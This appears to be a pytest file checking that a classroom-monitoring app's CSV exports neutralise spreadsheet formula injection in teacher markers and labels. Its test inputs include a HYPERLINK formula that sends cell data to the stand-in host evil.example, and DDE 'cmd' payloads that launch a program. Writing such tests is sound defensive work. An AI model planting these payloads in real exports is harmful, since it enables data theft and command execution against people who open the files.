"""CSV formula injection: a teacher's marker never reaches a spreadsheet as a live formula.

The same CSV leaves by three doors (the dashboard's download, ``export`` and a bulk zip); each is checked.
Cells the code writes as numbers stay numbers, a leading minus included.
"""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from sqlalchemy import update

from monitor.reports.csv_export import neutralise_formula
from monitor.store.schema import Observation
from tests.conftest import run_cli
from tests.dashboard.helpers import csrf_of

HOSTILE = {
    "2025-03-03T09:00:10Z": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "2025-03-03T09:00:20Z": "+1+cmd|' /C calc'!A0",
    "2025-03-03T09:00:30Z": "-2+3",
    "2025-03-03T09:00:40Z": "@SUM(1+1)*cmd|' /C calc'!A0",
    "2025-03-03T09:00:50Z": "group work",
}


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("group work", "group work"),
        ("1-2", "1-2"),
        ("", ""),
    ],
)
def test_text_that_a_spreadsheet_would_run_gets_a_leading_quote(text: str, cell: str) -> None:
    assert neutralise_formula(text) == cell


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def _check(text: str, plain: list[dict]) -> None:
    """Every marker cell is inert; every other cell equals the export without markers."""
    rows = _rows(text)
    markers = {row.pop("marker") for row in rows}
    assert markers == {"", *(neutralise_formula(t) for t in HOSTILE.values())}
    assert not any(m.startswith(("=", "+", "-", "@", "\t", "\r")) for m in markers)
    assert "'=HYPERLINK(" in text and "\n=HYPERLINK" not in text and ",=HYPERLINK" not in text
    assert rows == plain  # numbers untouched


def test_markers_cannot_inject_formulas_into_any_csv_export(world, school, login, tmp_path) -> None:
    teacher = login("alice")
    lesson = school["lesson_a"]
    plain = _rows(teacher.get(f"/sessions/{lesson}/export.csv").data.decode())
    assert plain and any(float(r["attention"]) >= 0 for r in plain)
    for at, text in HOSTILE.items():
        resp = teacher.post(
            f"/api/sessions/{lesson}/markers",
            json={"text": text, "at": at},
            headers={"X-CSRFToken": csrf_of(teacher)},
        )
        assert resp.status_code == 201, resp.data

    # the dashboard's download
    _check(teacher.get(f"/sessions/{lesson}/export.csv").data.decode(), plain)
    # export to standard output
    one = run_cli("--db", world.url, "export", str(lesson), "--format", "csv", "--out", "-")
    assert one.returncode == 0, one.stderr
    _check(one.stdout, plain)
    # a bulk zip
    out = tmp_path / "room.zip"
    bulk = run_cli("--db", world.url, "export", "--camera", "room-a", "--format", "csv", "--out", str(out))
    assert bulk.returncode == 0, bulk.stderr
    with zipfile.ZipFile(out) as zf:
        [name] = zf.namelist()
        _check(zf.read(name).decode(), plain)


def test_class_only_csv_neutralises_markers_too(world, school, login) -> None:
    teacher = login("alice")
    lesson = school["lesson_a"]
    world.setting("class_only", True)
    resp = teacher.post(
        f"/api/sessions/{lesson}/markers",
        json={"text": "=1+1", "at": "2025-03-03T09:00:05Z"},
        headers={"X-CSRFToken": csrf_of(teacher)},
    )
    assert resp.status_code == 201, resp.data
    rows = _rows(teacher.get(f"/sessions/{lesson}/export.csv").data.decode())
    assert {r["marker"] for r in rows} == {"", "'=1+1"}
    assert all(float(r["heads_up"]) >= 0 for r in rows if r["heads_up"])


def test_a_label_written_into_the_database_by_hand_is_neutralised_too(world, school, login) -> None:
    with world.Session.begin() as db:
        db.execute(
            update(Observation).where(Observation.session_id == school["lesson_a"]).values(top_label="=1+1")
        )
    rows = _rows(login("alice").get(f"/sessions/{school['lesson_a']}/export.csv").data.decode())
    assert rows and {r["top_label"] for r in rows} == {"'=1+1"}
